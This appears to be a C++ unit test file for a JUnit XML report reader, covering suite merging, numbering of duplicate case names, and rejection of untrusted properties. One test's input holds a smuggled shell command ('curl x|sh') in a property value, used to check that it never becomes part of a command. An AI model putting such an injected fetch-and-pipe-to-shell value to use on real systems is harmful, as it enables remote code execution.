#include <gtest/gtest.h>

#include "reports/junit.hpp"
#include "tests/support/temp_dir.hpp"

namespace bootgate {
namespace {

TEST(ReadJunit, SuitesOfOneNameAreOneJob) {
  TempDir dir;
  const RunRecord run = read_junit(dir.file("x.xml", R"(<testsuites>
    <testsuite name="unit" time="1"><testcase classname="s" name="a"/></testsuite>
    <testsuite name="unit" time="2"><testcase classname="s" name="b"><failure message="no"/></testcase></testsuite>
    </testsuites>)"))
                            .value();
  ASSERT_EQ(run.jobs.size(), 1u);
  EXPECT_EQ(run.jobs[0].cases.size(), 2u);
  EXPECT_EQ(run.jobs[0].took, Duration(3000));
  EXPECT_EQ(count(run).fail, 1);
}

TEST(ReadJunit, CasesOfOneNameAreNumbered) {
  TempDir dir;
  const RunRecord run = read_junit(dir.file("x.xml", R"(<testsuite name="unit">
    <testcase classname="s" name="a"/><testcase classname="s" name="a#2"/><testcase classname="s" name="a"/>
    <testcase classname="other" name="a"/></testsuite>)"))
                            .value();
  std::vector<std::string> names;
  for (const CaseRecord& record : run.jobs.at(0).cases)
    names.push_back(record.suite + "/" + record.name);
  EXPECT_EQ(names, (std::vector<std::string>{"s/a", "s/a#2", "s/a#3", "other/a"}));
}

TEST(ReadJunit, ManyCasesOfOneNameAreNumberedInTime) {
  TempDir dir;
  constexpr std::size_t rows = 50'000;  // counted from the first one on, each of them would take minutes
  std::string text = "<testsuite name=\"unit\">";
  for (std::size_t i = 0; i < rows; ++i)
    text += "<testcase classname=\"s\" name=\"a\"/>";
  const RunRecord run = read_junit(dir.file("x.xml", text + "</testsuite>")).value();
  ASSERT_EQ(run.jobs.at(0).cases.size(), rows);
  EXPECT_EQ(run.jobs[0].cases.back().name, "a#50000");
}

TEST(ReadJunit, NothingOfAStrangersFileBecomesAPartOfACommand) {
  TempDir dir;
  const RunRecord run = read_junit(dir.file("x.xml", R"(<testsuite name="unit"><properties>
    <property name="bisect.options" value="--suite boot; curl x|sh"/><property name="kernel.release" value="6.12"/>
    </properties><testcase classname="s" name="a"/></testsuite>)"))
                            .value();
  EXPECT_EQ(fact(run.jobs.at(0), bisect_options_fact), "");
  EXPECT_EQ(fact(run.jobs[0], "kernel.release"), "6.12");
}

}  // namespace
}  // namespace bootgate
